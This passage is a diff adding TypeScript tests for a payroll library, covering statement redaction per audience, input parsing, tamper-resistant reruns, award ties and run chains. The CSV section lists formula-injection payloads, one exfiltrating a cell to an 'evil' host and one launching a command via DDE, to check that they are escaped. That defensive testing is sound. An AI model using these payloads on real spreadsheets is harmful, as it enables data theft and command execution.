@@ -1,0 +1,1766 @@
+import { readdirSync } from 'node:fs'
+import fc from 'fast-check'
+import { describe, expect, test, vi } from 'vitest'
+import { explainAward, giveAward, parseAward } from '../../src/bonus/index.js'
+import {
+  addDays,
+  nextPeriod,
+  parseHistory,
+  parsePeriod,
+  periodContaining,
+} from '../../src/calendar/index.js'
+import {
+  attribute,
+  creditEvents,
+  lintPlan,
+  type PlanPolicy,
+  parseAttribution,
+  parseContest,
+  parseCreditRules,
+  parseEvents,
+  parsePlan,
+  parseTouches,
+  rankContest,
+  type SalesEvent,
+} from '../../src/commission/index.js'
+import {
+  add,
+  analyze,
+  type Column,
+  categoryColumn,
+  check,
+  compile,
+  constant,
+  divide,
+  type Explanation,
+  type Expression,
+  evaluate,
+  fold,
+  input,
+  marginal,
+  match,
+  maximum,
+  minimum,
+  multiply,
+  numberColumn,
+  parseFormula,
+  renderHtml,
+  renderMarkdown,
+  renderText,
+  splitGain,
+  step,
+  streamBatches,
+  subtract,
+} from '../../src/formula/index.js'
+import { careerMermaid, parseCareer, parseCareerFramework } from '../../src/growth/index.js'
+import { isPolicyError } from '../../src/index.js'
+import { cascadeTarget, distribute, parseCascade, parseDistribution } from '../../src/kpi/index.js'
+import { describeProblems, PolicyError, problemsOf } from '../../src/problem/index.js'
+import { formatNumber, formatQuantity, fromScaled, money } from '../../src/quantity/index.js'
+import {
+  type Audience,
+  type CompensationRun,
+  type DisclosedStatement,
+  digestOf,
+  explainStatement,
+  type JournalRow,
+  journal,
+  journalCsv,
+  parseAdjustments,
+  parseAwards,
+  parseBook,
+  parsePeople,
+  parsePools,
+  parseRun,
+  parseRunData,
+  parseStatement,
+  type RunData,
+  redact,
+  rerunCompensation,
+  runCompensation,
+  type Statement,
+  statementPage,
+  verify,
+  verifyChain,
+} from '../../src/run/index.js'
+import { allocateSql, selectSql } from '../../src/sql/index.js'
+import { bookPolicies, checkPolicy, describeReport, runDataOf } from '../../src/testing/index.js'
+import { duckdb } from '../conformance/engines.js'
+import { found } from '../found.js'
+import * as career from '../growth/fixture.js'
+import { ann, bookOf, book as company, operations, request, statementOf } from '../run/company.js'
+import { adjustments, awards, pools, yearEnd } from '../run/year-end.js'
+
+describe('disclosure: what leaves the house says nothing of others, and no more than was verified', () => {
+  const audiences: readonly Audience[] = ['employee', 'manager', 'peer', 'auditor']
+  const given = { book: { ...company, policies: yearEnd() }, pools, awards, adjustments }
+  const [book, data, period] = request(given)
+  const run = runCompensation(book, data, period)
+  const li = statementOf(run, 'li')
+  const march = parsePeriod('2026-03')
+  const drawnRuns = bookPolicies()
+    .map(parseBook)
+    .chain((drawn) => runDataOf(drawn, march).map((own) => ({ book: drawn, data: own })))
+
+  describe.each(audiences)('A3 the statement of the %s', (audience) => {
+    test.each(['en', 'zh-CN'] as const)('is rendered in %s', (locale) => {
+      for (const statement of run.statements) {
+        const shown = redact(statement, audience)
+        const text = renderText(explainStatement(shown, { locale }))
+        expect(text).not.toMatch(/undefined|null|NaN/)
+        expect(statementPage(shown, { locale })).toContain(`<html lang="${locale}">`)
+        expect(text.includes(statement.total.slice(-6))).toBe(audience !== 'peer')
+      }
+    })
+
+    test('names a rival to the auditor alone', () => {
+      const page = statementPage(redact(li, audience), { locale: 'en' })
+      expect(page.includes('Wang Wei')).toBe(audience === 'auditor')
+    })
+
+    test('A1 holds no digest, but for the auditor', () => {
+      const shown = redact(li, audience)
+      const digests = /[0-9a-f]{64}/
+      expect(digests.test(JSON.stringify(shown))).toBe(audience === 'auditor')
+      expect(digests.test(statementPage(shown, { locale: 'en' }))).toBe(audience === 'auditor')
+    })
+
+    test('A16 holds nothing that is not named', () => {
+      const shown = redact(noted(li), audience)
+      expect(JSON.stringify(shown)).not.toContain('§')
+      expect(shown).toEqual(redact(li, audience))
+      expect(statementPage(shown, { locale: 'zh-CN' })).not.toContain('§')
+    })
+
+    test('A3 shows no mark of what is hidden, in any drawn run', () => {
+      fc.assert(
+        fc.property(
+          drawnRuns,
+          fc.constantFrom('en' as const, 'zh-CN' as const),
+          (drawn, locale) => {
+            for (const statement of runCompensation(drawn.book, drawn.data, march).statements) {
+              const marked = noted(hiddenMarked(statement, audience))
+              // Labelled for an audience, but with all in it: the page shows no more than it may see.
+              const labelled: DisclosedStatement = { ...marked, audience }
+              for (const shown of [redact(marked, audience), labelled]) {
+                expect(statementPage(shown, { locale })).not.toContain('§')
+                expect(renderText(explainStatement(shown, { locale }))).not.toContain('§')
+              }
+              expect(redact(statement, 'auditor')).toEqual({ ...statement, audience: 'auditor' })
+            }
+          },
+        ),
+        { numRuns: 8 },
+      )
+    })
+  })
+
+  test('A3 a statement that names no audience is shown to nobody', () => {
+    const full = li as unknown as DisclosedStatement
+    for (const statement of [full, { ...full, audience: 'boss' as Audience }]) {
+      expect(() => explainStatement(statement, { locale: 'en' })).toThrow(PolicyError)
+      expect(() => statementPage(statement, { locale: 'en' })).toThrow(PolicyError)
+    }
+    expect(() => statementPage(full, { locale: 'en' })).toThrow(
+      'audience: undefined is nobody to whom a statement is shown. Give what redact(statement, audience) copies for "employee", "manager", "peer" or "auditor".',
+    )
+    expect(() => redact(li, 'constructor' as Audience)).toThrow('"constructor" is nobody')
+  })
+
+  test('A16 a line of no known kind, and what an object inherits, are not copied', () => {
+    const odd = { ...li.lines[0], kind: 'constructor' } as unknown as Statement['lines'][number]
+    expect(redact({ ...li, lines: [odd] }, 'auditor').lines).toEqual([])
+    const inherited = Object.create({ clause: '§' }, Object.getOwnPropertyDescriptors(li.lines[1]))
+    expect(JSON.stringify(redact({ ...li, lines: [inherited] }, 'employee'))).not.toContain('§')
+  })
+
+  test('A3 a copy from which more was taken still renders', () => {
+    const bare = li.lines.map(({ kind, source, label }) => ({ kind, source, label }))
+    const shown = { ...redact(li, 'auditor'), lines: bare } as DisclosedStatement
+    const { steps, how } = explainStatement(shown, { locale: 'en' })
+    expect(how).toEqual([])
+    expect(new Set(steps.map(({ value }) => value))).toEqual(new Set(['not shown']))
+    expect(steps.every((step) => step.how.length === 0 && step.steps.length === 0)).toBe(true)
+  })
+
+  test.each([
+    [
+      'a rival’s score',
+      {
+        awards: { ...awards, star: [awards.star[0], { id: 'wang', figures: { score: '95.99' } }] },
+      },
+    ],
+    [
+      'a rival’s weight in the award of teams',
+      {
+        awards: {
+          ...awards,
+          team: [awards.team[0], { ...awards.team[1], figures: { score: '12' } }],
+        },
+      },
+    ],
+    ['the pay of all others before', { before: { ...run, digest: digestOf('another firm') } }],
+  ])('A1 A2 %s changes nothing that the employee holds', (_, change) => {
+    const [, changed] = request({ ...given, ...change } as typeof given)
+    const later = 'before' in change ? nextPeriod(period) : period
+    const figures = (people: typeof data.people) =>
+      people.map((each) => ({
+        ...each,
+        figures: { ...each.figures, [later.name]: each.figures[period.name] ?? {} },
+      }))
+    const pay = (own: typeof data) =>
+      statementOf(
+        runCompensation(book, { ...own, people: figures(own.people), asOf: later.end }, later),
+        'li',
+      )
+    const plain = 'before' in change ? { ...data, before: run } : data
+    const [first, second] = [pay(plain), pay(changed)]
+    expect(second.digest).not.toBe(first.digest)
+    for (const audience of ['employee', 'manager', 'peer'] as const)
+      expect(redact(second, audience)).toEqual(redact(first, audience))
+  })
+
+  describe('A17 a run made again', () => {
+    const changed = (change: (own: Statement) => object, digested: boolean): CompensationRun => ({
+      ...run,
+      statements: run.statements.map((each) => {
+        if (each.person !== 'li') return each
+        const { digest, ...content } = { ...each, ...change(each) }
+        return { ...content, digest: digested ? digestOf(content) : digest }
+      }),
+    })
+    const greedy = () => ({ total: '99999.00' })
+    const line = ({ lines }: Statement) => ({
+      lines: lines.map((each, i) => (i === 0 ? { ...each, amount: '99999.00' } : each)),
+    })
+    test.each<[string, CompensationRun]>([
+      ['a total with a new digest', changed(greedy, true)],
+      ['a total with the old digest', changed(greedy, false)],
+      ['a line with a new digest', changed(line, true)],
+      ['a line with the old digest', changed(line, false)],
+      ['what is owed', { ...run, owed: { li: { carried: [], draw: '500.00' } } }],
+      ['what was settled', { ...run, settlements: run.settlements.slice(1) }],
+    ])('takes over nothing that does not hold: %s', (_, tampered) => {
+      const again = rerunCompensation(tampered, book, data)
+      expect(again).toEqual(run)
+      expect(verifyChain([again])).toEqual([])
+    })
+
+    test('takes over no statement whose digest does not hold, in a run whose digest does', () => {
+      const again = rerunCompensation(changed(greedy, false), book, data)
+      expect(again.statements).toEqual(run.statements)
+    })
+
+    test('takes over what holds', () => {
+      const again = rerunCompensation(run, book, data)
+      expect(again.statements.every((each, i) => each === run.statements[i])).toBe(true)
+    })
+  })
+
+  describe('A24 data that no parser has read', () => {
+    const whole = JSON.parse(JSON.stringify({ ...data, before: runOfMay() })) as typeof data
+    const paths = pathsIn({ data: whole, period }).filter((path) => path.length > 1)
+
+    test.each<[string, object, string]>([
+      ['people without an id', { people: [{ ...data.people[0], id: undefined }] }, 'people[0].id'],
+      [
+        'people without figures',
+        { people: [{ ...data.people[0], figures: undefined }] },
+        'people[0].figures',
+      ],
+      [
+        'events without attributes',
+        { events: [{ ...data.events[0], attributes: null }] },
+        'events[0].attributes',
+      ],
+      ['a pool of nothing', { pools: { profit: {} } }, 'pools.profit.figures'],
+      ['a pool that is a list', { pools: { profit: [] } }, 'pools.profit'],
+      [
+        'a member without figures',
+        { pools: { profit: { figures: {}, members: [{ id: 'a' }] } } },
+        'pools.profit.members[0].figures',
+      ],
+      ['an entry without figures', { awards: { star: [{ id: 'li' }] } }, 'awards.star[0].figures'],
+      ['entries that are none', { awards: { star: null } }, 'awards.star'],
+      [
+        'a label of one language',
+        { awards: { star: [{ id: 'li', label: { en: 'Li' }, figures: {} }] } },
+        'awards.star[0].label.zh-CN',
+      ],
+      [
+        'a label that is a number',
+        { awards: { star: [{ id: 'li', label: 5, figures: {} }] } },
+        'awards.star[0].label',
+      ],
+      ['a run before of nothing', { before: {} }, 'before'],
+      ['no day', { asOf: undefined }, 'asOf'],
+      ['a misspelt key', { adjustmnets: [] }, 'adjustmnets'],
+      ['a key of the run before', { owed: {} }, 'owed'],
+    ])('is refused for %s', (_, change, path) => {
+      const wrong = () => runCompensation(book, { ...data, ...change } as typeof data, period)
+      expect(problemsIn(wrong)[0]?.path).toBe(path)
+    })
+
+    test.each([null, {}, [], 'x', undefined, { name: '2026-06' }])(
+      'is refused for the period %j',
+      (odd) => {
+        const wrong = () => runCompensation(book, data, odd as unknown as typeof period)
+        expect(problemsIn(wrong)[0]?.path).toMatch(/^period/)
+      },
+    )
+
+    test('is refused for a period of other days than its name means', () => {
+      const long = { ...period, end: '2026-12-31' }
+      expect(() => runCompensation(book, data, long)).toThrow(
+        'period: "2026-06" runs from 2026-06-01 to 2026-06-30 in the calendar of the book, not as given.',
+      )
+      expect(() => runCompensation(book, data, { ...period, name: 'June' })).toThrow(/^period/)
+      expect(() => runCompensation(book, null as unknown as typeof data, period)).toThrow(
+        PolicyError,
+      )
+    })
+
+    test('is refused for members of members without end', () => {
+      type Member = { id: string; figures: object; members: Member[] }
+      const endless: Member = { id: 'a', figures: { share: 1, months: 1 }, members: [] }
+      endless.members.push(endless)
+      const profit = { figures: { profit: '1' }, members: [endless] }
+      const wrong = () =>
+        runCompensation(book, { ...data, pools: { profit } } as typeof data, period)
+      expect(problemsIn(wrong).map(({ code }) => code)).toContain('unread-members')
+    })
+
+    test('gives pay or a PolicyError, and nothing else, whatever is changed in it', () => {
+      const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', '', 5, true, [null], {
+        x: null,
+      })
+      fc.assert(
+        fc.property(fc.constantFrom(...paths), odd, (path, value) => {
+          const changed = replaced({ data: whole, period }, path, value) as {
+            data: typeof data
+            period: typeof period
+          }
+          orProblems(() => runCompensation(book, changed.data, changed.period))
+        }),
+        { numRuns: 120 },
+      )
+    })
+
+    function runOfMay(): CompensationRun {
+      const may = parsePeriod('2026-05')
+      return { ...run, period: may, asOf: may.end, settlements: [] }
+    }
+  })
+
+  describe('A24 what is stored', () => {
+    const json = (value: unknown) => JSON.parse(JSON.stringify(value)) as never
+
+    test('is read as it was written, of every drawn run', () => {
+      fc.assert(
+        fc.property(drawnRuns, (drawn) => {
+          const paid = runCompensation(drawn.book, drawn.data, march)
+          expect(parseRun(json(paid))).toEqual(paid)
+          expect(parseRunData(json(drawn.data))).toEqual(drawn.data)
+          expect(parseRunData(json({ ...drawn.data, before: paid })).before).toEqual(paid)
+          for (const statement of paid.statements)
+            expect(parseStatement(json(statement))).toEqual(statement)
+        }),
+        { numRuns: 8 },
+      )
+      const { statements, unpaid, unread, totals, budgets, before, ...state } = run
+      expect([statements, unpaid, unread, totals, budgets, before]).toHaveLength(6)
+      expect(parseRunData(json({ ...data, before: state })).before).toEqual(state)
+      expect(parseRun(json(run))).toEqual(run)
+    })
+
+    test.each<[string, (own: unknown) => unknown, unknown, string]>([
+      ['a pool', parsePools, { profit: { ...pools.profit, figuers: {} } }, 'profit.figuers'],
+      [
+        'a member',
+        parsePools,
+        { profit: { figures: {}, members: [{ id: 'a', figures: {}, wieght: 1 }] } },
+        'profit.members[0].wieght',
+      ],
+      ['a pool’s name', parsePools, { 'no name': pools.profit }, 'no name'],
+      ['pools', parsePools, [], ''],
+      [
+        'a number',
+        parsePools,
+        { profit: { figures: { profit: '1e5' }, members: [] } },
+        'profit.figures.profit',
+      ],
+      [
+        'an entry',
+        parseAwards,
+        { star: [{ id: 'li', figures: {}, form: '2020-01-01' }] },
+        'star[0].form',
+      ],
+      ['a day', parseAwards, { star: [{ id: 'li', figures: {}, from: 'May' }] }, 'star[0].from'],
+      ['entries', parseAwards, { star: {} }, 'star'],
+      ['data', parseRunData, { ...data, adjustmnets: [] }, 'adjustmnets'],
+      ['data of nothing', parseRunData, null, ''],
+      ['a run', parseRun, { ...run, owde: {} }, 'owde'],
+      ['a run without totals', parseRun, { ...run, totals: {} }, 'totals.departments'],
+      ['a statement', parseStatement, { ...li, hrNote: 'x' }, 'hrNote'],
+      [
+        'a line',
+        parseStatement,
+        { ...li, lines: [{ ...li.lines[0], note: 'x' }] },
+        'lines[0].note',
+      ],
+      [
+        'a trace',
+        parseStatement,
+        { ...li, lines: [{ ...li.lines[0], trace: {} }] },
+        'lines[0].trace.node',
+      ],
+    ])('is refused for a misspelt or a wrong part: %s', (_, parse, value, path) => {
+      expect(problemsIn(() => parse(value)).map((each) => each.path)).toContain(path)
+    })
+
+    test('of a statement is verified, or refused when it is read', () => {
+      const paths = pathsIn(li).filter((path) => path.length > 0)
+      const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', 5)
+      fc.assert(
+        fc.property(fc.constantFrom(...paths), odd, (path, value) => {
+          orProblems(() => verify(parseStatement(replaced(li, path, value)), book, data))
+          orProblems(() =>
+            verifyChain([parseRun({ ...run, statements: [replaced(li, path, value)] })]),
+          )
+        }),
+        { numRuns: 40 },
+      )
+    })
+  })
+
+  describe('A25 an amount that skipped its parser', () => {
+    test.each(['0x10', '1e400', '1e9000000', ' 5', '+5', '.5', `1${'0'.repeat(60)}`, 'Infinity'])(
+      '%s is refused at once',
+      (amount) => {
+        const [correction] = adjustments
+        const odd = { ...data, adjustments: [{ ...correction, amount } as (typeof adjustments)[0]] }
+        expect(problemsIn(() => runCompensation(book, odd, period))[0]?.path).toBe(
+          'adjustments[0].amount',
+        )
+        const [first] = data.events
+        const event = { ...first, amount } as (typeof data.events)[0]
+        const sales = { ...data, events: [event] }
+        expect(problemsIn(() => runCompensation(book, sales, period))[0]?.path).toBe(
+          'events[0].amount',
+        )
+      },
+    )
+
+    test.each<[object, string]>([
+      [{ pay: { base: [{ from: '2020-01-01', value: '-9000.00' }] } }, 'pay.base[0].value'],
+      [
+        {
+          pay: {
+            base: [
+              { from: '2020-01-01', value: '9000.00' },
+              { from: '2026-06-11', value: '-0.01' },
+            ],
+          },
+        },
+        'pay.base[1].value',
+      ],
+      [{ targetBonus: '-1' }, 'targetBonus'],
+    ])('of pay below zero pays nobody: %j', (change, path) => {
+      const people = data.people.map((each) => (each.id === 'ann' ? { ...each, ...change } : each))
+      const { unpaid } = runCompensation(book, { ...data, people }, period)
+      expect(unpaid.map(({ person, problems }) => [person, problems[0]?.path])).toEqual([
+        ['ann', path],
+      ])
+    })
+
+    test('that was read is paid', () => {
+      const read = parseAdjustments(JSON.parse(JSON.stringify(adjustments)))
+      expect(runCompensation(book, { ...data, adjustments: read }, period)).toEqual(run)
+    })
+  })
+
+  describe('A5 an award of which all win', () => {
+    const terms = {
+      id: 'present',
+      currency: 'CNY',
+      eligibility: [],
+      ranking: [{ figure: 'days', unit: 'count', direction: 'higher' }],
+      prizes: ['100'],
+      budget: '100000',
+    }
+    const entries = (many: number, days: (i: number) => number) =>
+      Array.from({ length: many }, (_, i) => ({
+        id: `p${String(i).padStart(5, '0')}`,
+        figures: { days: days(i) },
+      }))
+    const asOf = '2026-06-30'
+    const give = (change: object, many: number, days: (i: number) => number = () => 21) =>
+      giveAward(parseAward({ ...terms, ...change }), { asOf, entries: entries(many, days) })
+    const textOf = (result: ReturnType<typeof give>, id: string, locale: 'en' | 'zh-CN' = 'en') =>
+      renderText(explainAward(result, id, { locale }))
+
+    test('names five, and counts the others', () => {
+      const result = give({ ties: 'all-win' }, 1_001)
+      expect(textOf(result, 'p00003')).toContain(
+        'Equal in every criterion: p00000, p00001, p00002, p00004, p00005 and 995 others\n',
+      )
+      expect(textOf(result, 'p00003', 'zh-CN')).toContain('p00004、p00005，另有 995 名\n')
+      expect(textOf(give({ ties: 'all-win' }, 7), 'p00000')).toContain('p00005 and 1 other\n')
+      expect(textOf(give({ ties: 'all-win' }, 6), 'p00000')).toMatch(/p00005$/m)
+    })
+
+    test.each([
+      ['all win, beyond the budget', { ties: 'all-win' }, () => 21, '50.00'],
+      [
+        'all share as many prizes',
+        { ties: 'share', prizes: Array(2_000).fill('10') },
+        () => 21,
+        '10.00',
+      ],
+      ['all share one prize', { ties: 'share' }, () => 21, '0.05'],
+      ['no two are equal', { ties: 'all-win' }, (i: number) => 9_999 - i, '100.00'],
+    ])('takes work and text by the number of entries: %s', (_, change, days, prize) => {
+      const result = give(change, 2_000, days)
+      expect(result.standings[0]?.prize).toBe(prize)
+      const texts = result.standings.map(({ id }) => textOf(result, id))
+      expect(Math.max(...texts.map(({ length }) => length))).toBeLessThan(500)
+      expect(JSON.stringify(result).length).toBeLessThan(
+        2_000 * 300 + JSON.stringify(change).length,
+      )
+    })
+
+    test('is paid to 400 people in statements of a size that does not grow with them', () => {
+      const everybody = entries(400, () => 21)
+      const people = everybody.map(({ id }) => ({
+        id,
+        name: `Name of ${id}`,
+        department: 'operations',
+        employment: { from: '2020-01-01' },
+        pay: { base: [{ from: '2020-01-01', value: '9000.00' }] },
+        figures: { quota: '20000.00' },
+      }))
+      const star = { ...yearEnd()[6], id: 'star', kind: 'award' }
+      const versions = [
+        { from: '2026-06-01', reason: 'x', terms: { ...terms, id: 'star', ties: 'all-win' } },
+      ]
+      const policies = [...yearEnd().filter(({ kind }) => kind !== 'award'), { ...star, versions }]
+      const [own, whole, june] = request({
+        book: { ...company, policies },
+        people,
+        events: [],
+        awards: { star: everybody },
+      })
+      const paid = runCompensation(own, whole, june)
+      expect(paid.totals.company.byKind.award).toBe('40000.00')
+      const sizes = paid.statements.map((each) => JSON.stringify(each.lines.at(-1)).length)
+      expect(Math.max(...sizes)).toBeLessThan(2_000)
+      expect(JSON.stringify(paid.statements[7])).toContain('Name of p00001')
+    })
+
+    test('of sales as well: a contest in which all are equal', () => {
+      const contest = parseContest({
+        id: 'c',
+        currency: 'CNY',
+        credit: 'direct',
+        from: '2026-06-01',
+        to: '2026-06-30',
+        prizes: ['1000', '10'],
+      })
+      const credits = entries(1_500, () => 1).map(({ id }) => ({
+        event: id,
+        kind: 'order' as const,
+        effective: '2026-06-02',
+        recorded: '2026-06-02',
+        dealt: '2026-06-02',
+        booked: '2026-06-02',
+        deal: id,
+        credit: 'direct',
+        person: id,
+        amount: '5.00',
+        currency: 'CNY' as const,
+        figures: {},
+        attributes: {},
+      }))
+      const standings = rankContest(contest, credits)
+      expect(new Set(standings.map(({ place }) => place))).toEqual(new Set([1]))
+      expect(standings.map(({ prize }) => prize)).toContain('0.67')
+      const cents = standings.map(({ prize }) => Math.round(Number(prize) * 100))
+      expect(cents.reduce((sum, each) => sum + each, 0)).toBe(101_000)
+    })
+  })
+
+  describe('A19 a journal as CSV', () => {
+    const [row] = journal(run.statements, { locale: 'en' }) as readonly [JournalRow]
+    const cells = (change: Partial<JournalRow>, options?: Parameters<typeof journalCsv>[1]) =>
+      journalCsv([{ ...row, ...change }], options).slice(journalCsv([], options).length)
+
+    test.each([
+      '=HYPERLINK("http://evil/?"&A1)',
+      "+1+cmd|'/C calc'!A0",
+      '-2+3',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      '\nx',
+      '＝1+1',
+      '＋1',
+      '－1',
+      '＠x',
+      '  =1',
+      '\u0000=1',
+      '\u200E=1',
+    ])('runs no text: %j', (text) => {
+      for (const column of [
+        'person',
+        'name',
+        'costCentre',
+        'label',
+        'clause',
+        'source',
+        'department',
+      ] as const)
+        expect(cells({ [column]: text })).toMatch(/(^|,)"?'/)
+      expect(cells({ name: text }, { formulas: 'keep' })).not.toMatch(/(^|,)"?'/)
+    })
+
+    test('keeps amounts, and a name that is none', () => {
+      expect(cells({ amount: '-20.50' })).toContain(',-20.50,')
+      expect(cells({ amount: '=1+1' })).toContain(",'=1+1,")
+      expect(cells({ name: 'Ann-Lee =' })).toContain(',Ann-Lee =,')
+      expect(cells({})).toBe(cells({}, { formulas: 'keep' }))
+    })
+
+    test('holds no control character', () => {
+      const hostile = 'a\u0000b\u001b[31mc\u0007d\u202Ee\u009Bf\uFEFFg'
+      expect(cells({ name: hostile })).toContain(',ab[31mcdefg,')
+      expect(cells({ name: hostile }, { formulas: 'keep' })).toContain(',ab[31mcdefg,')
+      expect(cells({ name: 'two\tparts' })).toContain(',two\tparts,')
+    })
+
+    test('begins with a mark where that is asked for', () => {
+      expect(journalCsv([], { mark: true })).toBe(`\uFEFF${journalCsv([])}`)
+    })
+  })
+
+  /** Every object with a member that no statement has. */
+  function noted<T>(value: T): T {
+    if (typeof value !== 'object' || value === null) return value
+    if (Array.isArray(value)) return value.map(noted) as T
+    const own = Object.entries(value).map(([name, inner]) => [name, noted(inner)])
+    return { ...Object.fromEntries(own), '§note': '§' } as T
+  }
+
+  /** A statement with a mark before every text that an audience may not see. */
+  function hiddenMarked(statement: Statement, audience: Audience): Statement {
+    const all = audience === 'auditor'
+    const seen = {
+      auditor: Object.keys(statement),
+      employee: [
+        'person',
+        'name',
+        'department',
+        'departmentLabel',
+        'costCentre',
+        'period',
+        'currency',
+        'total',
+      ],
+      manager: [
+        'person',
+        'name',
+        'department',
+        'departmentLabel',
+        'costCentre',
+        'period',
+        'currency',
+        'total',
+      ],
+      peer: ['name', 'department', 'departmentLabel', 'period'],
+    }[audience]
+    const ofLine = (line: Statement['lines'][number]): readonly string[] => {
+      const others = line.kind === 'pool' || line.kind === 'award'
+      if (all || (audience === 'employee' && !others)) return Object.keys(line)
+      if (audience === 'peer')
+        return line.kind === 'award' ? ['kind', 'source', 'label', 'place'] : ['kind']
+      return [
+        'kind',
+        'source',
+        'label',
+        'clause',
+        'amount',
+        ...(audience === 'employee' ? ['place'] : []),
+      ]
+    }
+    const lines = statement.lines.map((line) => markedBut(line, ofLine(line)))
+    return { ...markedBut(statement, [...seen, 'lines']), lines }
+  }
+
+  function markedBut<T extends object>(object: T, kept: readonly string[]): T {
+    const mark = (value: unknown): unknown => {
+      if (typeof value === 'string') return `§${value}`
+      if (typeof value !== 'object' || value === null) return value
+      if (Array.isArray(value)) return value.map(mark)
+      return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, mark(inner)]))
+    }
+    const own = Object.entries(object).map(([name, value]) => [
+      name,
+      kept.includes(name) ? value : mark(value),
+    ])
+    return Object.fromEntries(own) as T
+  }
+
+  /** The problems of a PolicyError; every other error is a defect. */
+  function problemsIn(task: () => unknown): PolicyError['problems'] {
+    try {
+      task()
+    } catch (error) {
+      if (error instanceof PolicyError) return error.problems
+      throw error
+    }
+    throw new Error('it was not refused')
+  }
+
+  function orProblems(task: () => unknown): void {
+    try {
+      task()
+    } catch (error) {
+      if (!(error instanceof PolicyError)) throw error
+      expect(describeProblems(error.problems, 'zh-CN')).not.toContain('undefined undefined')
+    }
+  }
+
+  type Path = readonly string[]
+
+  function pathsIn(value: unknown, path: Path = []): readonly Path[] {
+    if (typeof value !== 'object' || value === null) return [path]
+    return [
+      path,
+      ...Object.entries(value).flatMap(([name, inner]) => pathsIn(inner, [...path, name])),
+    ]
+  }
+
+  function replaced(value: unknown, [first, ...rest]: Path, by: unknown): unknown {
+    if (first === undefined) return by
+    const own = value as Readonly<Record<string, unknown>>
+    const inner = replaced(own[first], rest, by)
+    return Array.isArray(value)
+      ? value.map((each, i) => (String(i) === first ? inner : each))
+      : { ...own, [first]: inner }
+  }
+})
+
+describe('spans: a chain of runs that pays no period twice', () => {
+  const plain = {
+    ...{ service: 'none', scorecard: 'none', territory: 'none', returning: 'none' },
+    crediting: 'none',
+    operations: { ...operations, commission: undefined },
+  }
+  const [book, data, january] = request({
+    book: bookOf(plain),
+    people: [{ ...ann, figures: {} }],
+    events: [],
+    period: '2026-07',
+  })
+  const next = (before: RunData['before'], period = january, of = book) =>
+    runCompensation(of, { ...data, asOf: '2026-12-31', before }, period)
+  const first = next('first')
+  const second = next(first, nextPeriod(january))
+  const third = next(second, parsePeriod('2026-09'))
+
+  test.each<[string, CompensationRun, string]>([
+    ['the same period', first, '2026-07'],
+    ['a period of the past', third, '2026-07'],
+    ['a period too far on', first, '2026-09'],
+  ])('A4 %s is not paid after a run', (_, before, name) => {
+    expect(found(() => next(before, parsePeriod(name)))).toEqual([
+      ['not-the-run-before', 'before.period'],
+    ])
+  })
+
+  test('A4 nor a run in another currency', () => {
+    const yen = parseBook({ ...bookOf(plain), currency: 'JPY' })
+    expect(found(() => next(first, nextPeriod(january), yen))).toEqual([
+      ['other-currency', 'before.currency'],
+    ])
+  })
+
+  test.each<[string, readonly CompensationRun[], readonly string[]]>([
+    ['in order', [first, second, third], []],
+    ['with a period twice', [first, first], ['broken-order', 'broken-chain']],
+    ['with a period left out', [first, third], ['broken-order', 'broken-chain']],
+    ['turned round', [second, first], ['broken-order', 'broken-chain']],
+  ])('A4 a chain %s is told', (_, runs, codes) => {
+    expect(verifyChain(runs).map(({ code }) => code)).toEqual(codes)
+  })
+})
+
+describe('chains, circles, cascades and touches: each is passed once', () => {
+  const chain = (length: number, last?: string) =>
+    Array.from({ length }, (_, i) => ({
+      node: `n${i}`,
+      weight: '1',
+      ...(i > 0 ? { parent: `n${i - 1}` } : last !== undefined && { parent: last }),
+    }))
+  const cascadeOf = (nodes: readonly object[]) => parseCascade({ id: 'c', places: 0, nodes })
+
+  test('A11 a cascade of 5,000 levels comes down, in the order of its branches', () => {
+    const targets = cascadeTarget(cascadeOf(chain(5_000)), '7')
+    expect(targets).toHaveLength(5_000)
+    expect(targets.at(-1)).toEqual({ node: 'n4999', parent: 'n4998', target: '7' })
+    const branches = [
+      { node: 'a', weight: '1' },
+      { node: 'b', weight: '1' },
+      { node: 'b1', parent: 'b', weight: '1' },
+      { node: 'a1', parent: 'a', weight: '1' },
+      { node: 'a11', parent: 'a1', weight: '1' },
+    ]
+    expect(cascadeTarget(cascadeOf(branches), '10').map(({ node }) => node)).toEqual([
+      ...['a', 'a1', 'a11', 'b', 'b1'],
+    ])
+  })
+
+  test('A11 a cascade of 5,000 nodes under one is shared', () => {
+    const wide = [
+      { node: 'top', weight: '1' },
+      ...chain(5_000).map((each) => ({ ...each, parent: 'top' })),
+    ]
+    expect(
+      cascadeTarget(cascadeOf(wide), '10000').filter(({ target }) => target === '2'),
+    ).toHaveLength(5_000)
+  })
+
+  test('A11 a circle of 5,000 nodes is told, node by node, and not what leads into it', () => {
+    const into = { node: 'x', weight: '1', parent: 'n7' }
+    const top = { node: 'top', weight: '1' }
+    const told = found(() => cascadeOf([into, top, ...chain(5_000, 'n4999')]))
+    expect(told).toHaveLength(100)
+    expect(told[0]).toEqual(['cyclic-cascade', 'nodes[2].parent'])
+    expect(told.at(-1)?.[0]).toBe('more-problems')
+  })
+
+  const rules = parseCreditRules([
+    {
+      credit: 'direct',
+      by: 'seller',
+      owners: { li: [{ person: 'li', share: '1' }] },
+      unowned: 'skip',
+    },
+  ])
+  const common = { effective: '2026-01-10', recorded: '2026-01-10', currency: 'CNY' } as const
+  const order: SalesEvent = {
+    ...common,
+    id: 'e-1',
+    kind: 'order',
+    amount: '1',
+    attributes: { seller: 'li' },
+  }
+  const refund = (id: string, of: string): SalesEvent => ({
+    ...{ ...common, id, of, kind: 'refund', amount: '-1' },
+    attributes: {},
+  })
+  const refunds = (length: number) => Array.from({ length }, (_, i) => refund(`e${i}`, `e${i - 1}`))
+
+  test.each<[string, (events: readonly SalesEvent[]) => readonly SalesEvent[]]>([
+    ['oldest first', (events) => events],
+    ['latest first', (events) => events.toReversed()],
+  ])('A12 a chain of 10,000 refunds leads to its order, %s', (_, ordered) => {
+    const credits = creditEvents(ordered([order, ...refunds(10_000)]), rules)
+    expect(credits).toHaveLength(10_001)
+    expect(credits.every(({ deal }) => deal === 'e-1')).toBe(true)
+  })
+
+  test('A12 10,000 refunds that point into a circle of two are told, each once', () => {
+    const circle = [refund('a', 'b'), refund('b', 'a')]
+    const into = Array.from({ length: 10_000 }, (_, i) => refund(`e${i}`, 'a'))
+    const told = found(() => creditEvents([...into, ...circle], rules))
+    expect(told).toHaveLength(100)
